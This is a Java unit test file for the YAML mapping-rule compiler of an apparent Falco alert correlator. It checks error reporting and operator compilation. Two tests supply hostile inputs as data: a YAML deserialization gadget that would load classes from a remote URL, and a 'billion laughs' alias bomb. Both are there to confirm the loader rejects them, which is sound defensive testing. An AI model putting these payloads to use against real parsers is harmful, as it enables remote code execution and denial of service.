package io.falcocorrelator.mapping;

import static org.assertj.core.api.Assertions.assertThat;

import io.falcocorrelator.rules.RulesLoader;
import io.falcocorrelator.yaml.Problem;
import io.falcocorrelator.yaml.RulesException;
import java.io.StringReader;
import java.util.List;
import org.junit.jupiter.api.Test;

class MappingCompilerTest {
  static final String CASES =
      "cases:\n  - {id: c, name: C, severity: High, groups: [enumeration]}\n";

  private static List<Problem> problems(String yaml) {
    try {
      RulesLoader.load(
          List.of(new RulesLoader.Source("mappings.yaml", new StringReader(yaml))), "test");
    } catch (RulesException e) {
      return e.problems();
    }
    throw new AssertionError("accepted:\n" + yaml);
  }

  @Test
  void reportsEveryProblemWithFileLineAndPath() {
    List<Problem> p =
        problems(
            String.join(
                "\n",
                "mappings:",
                "  - id: a",
                "    groups: [enumeration, escapes]",
                "    match:",
                "      rule: X",
                "  - id: b",
                "    groups: [cgroup_escape]",
                "    match:",
                "      fields:",
                "        proc.name: {regexp: x}",
                "  - id: c",
                "    groups: [ptrace_escape]",
                "    match:",
                "      fields:",
                "        proc.cmdline: {regex: '(a'}",
                "      min_priority: loud",
                "  - id: a",
                "    groups: [ptrace_escape]",
                "    colour: red",
                "    match: {rule: Y}",
                CASES));
    assertThat(p)
        .extracting(Problem::toString)
        .containsExactly(
            "mappings.yaml:3 mappings[0].groups[1]: unknown group \"escapes\" (groups: enumeration, privileged_container, socket_discovery, container_management_abuse, namespace_manipulation, cgroup_escape, proc_write_escape, ptrace_escape, kernel_module_escape, evasive_execution)",
            "mappings.yaml:10 mappings[1].match.fields[proc.name].regexp: unknown key \"regexp\" (did you mean \"regex\"?) (allowed: equals, in, prefix, suffix, contains, glob, regex, exists, gt, gte, lt, lte)",
            "mappings.yaml:15 mappings[2].match.fields[proc.cmdline].regex: invalid regex: missing closing ) (RE2 syntax: no backreferences or lookaround)",
            "mappings.yaml:16 mappings[2].match.min_priority: unknown priority \"loud\" (expected Emergency, Alert, Critical, Error, Warning, Notice, Informational or Debug)",
            "mappings.yaml:17 mappings[3].id: duplicate id \"a\"",
            "mappings.yaml:19 mappings[3].colour: unknown key \"colour\" (allowed: id, description, groups, match)");
  }

  @Test
  void reportsMissingKeysAndWrongShapes() {
    List<Problem> p =
        problems(
            "mappings:\n  - id: a\n    match: {rule: X}\n  - groups: [enumeration]\n    match: []\n"
                + CASES);
    assertThat(p)
        .extracting(Problem::toString)
        .containsExactly(
            "mappings.yaml:2 mappings[0]: missing required key \"groups\"",
            "mappings.yaml:4 mappings[1]: missing required key \"id\"",
            "mappings.yaml:5 mappings[1].match: expected a map, found a list");
  }

  @Test
  void rejectsSyntaxErrorsAndDuplicateKeysWithTheirLine() {
    assertThat(
            problems(
                "mappings:\n  - id: a\n    id: b\n    groups: [enumeration]\n    match: {rule: R}\n"
                    + CASES))
        .extracting(Problem::toString)
        .containsExactly("mappings.yaml:3 mappings[0].id: duplicate key \"id\"");
    assertThat(problems("mappings: [\n"))
        .singleElement()
        .asString()
        .startsWith("mappings.yaml:2")
        .contains("invalid YAML");
  }

  @Test
  void neverConstructsObjectsFromYamlTags() {
    List<Problem> p =
        problems(
            "mappings: !!javax.script.ScriptEngineManager [!!java.net.URLClassLoader [[!!java.net.URL [\"http://x\"]]]]\n"
                + CASES);
    assertThat(p).isNotEmpty();
  }

  @Test
  void rejectsBillionLaughs() {
    StringBuilder y =
        new StringBuilder("a: &a [\"x\",\"x\",\"x\",\"x\",\"x\",\"x\",\"x\",\"x\",\"x\"]\n");
    char prev = 'a';
    for (char c = 'b'; c <= 'j'; c++) {
      y.append(c).append(": &").append(c).append(" [");
      for (int i = 0; i < 9; i++) {
        y.append(i == 0 ? "" : ",").append('*').append(prev);
      }
      y.append("]\n");
      prev = c;
    }
    assertThat(problems(y.toString())).isNotEmpty();
  }

  @Test
  void compilesEveryOperatorAndCombinator() {
    var set =
        RulesLoader.load(
            List.of(
                new RulesLoader.Source(
                    "m.yaml",
                    new StringReader(
                        String.join(
                            "\n",
                            "mappings:",
                            "  - id: all-ops",
                            "    groups: [enumeration]",
                            "    match:",
                            "      rule: {glob: 'Container * Enumeration*'}",
                            "      source: syscall",
                            "      tags: {all: [container, mitre_discovery]}",
                            "      min_priority: notice",
                            "      fields:",
                            "        fd.name: {prefix: /proc/, suffix: cgroup}",
                            "        proc.pid: {gt: 1, lte: 65535}",
                            "        proc.is_exe_upper_layer: true",
                            "        container.name: {exists: true}",
                            "      not: {fields: {proc.name: [java, python3]}}",
                            "      any:",
                            "        - fields: {proc.cmdline: {contains: deepce}}",
                            "        - fields: {proc.cmdline: {regex: '^/tmp/'}}",
                            CASES)))),
            "test");
    Mapping m = set.classifier().mappings().get(0);
    var base =
        io.falcocorrelator.support.TestAlerts.alert(
                "Container Environment Enumeration by Upper Layer Process")
            .priority("Warning")
            .field("fd.name", "/proc/1/cgroup")
            .field("proc.pid", 4242L)
            .field("proc.is_exe_upper_layer", true)
            .field("proc.name", "deepce")
            .field("proc.cmdline", "/tmp/deepce")
            .tags("container", "mitre_discovery", "T1613");
    assertThat(m.match().test(base.build())).isTrue();
    assertThat(m.match().test(base.field("proc.name", "java").build())).isFalse();
    assertThat(m.match().test(base.field("proc.name", "deepce").priority("Informational").build()))
        .isFalse();
    assertThat(m.match().test(base.priority("Warning").field("proc.pid", 70000L).build()))
        .isFalse();
    assertThat(m.match().test(base.field("proc.pid", 4242L).tags("container").build())).isFalse();
  }
}
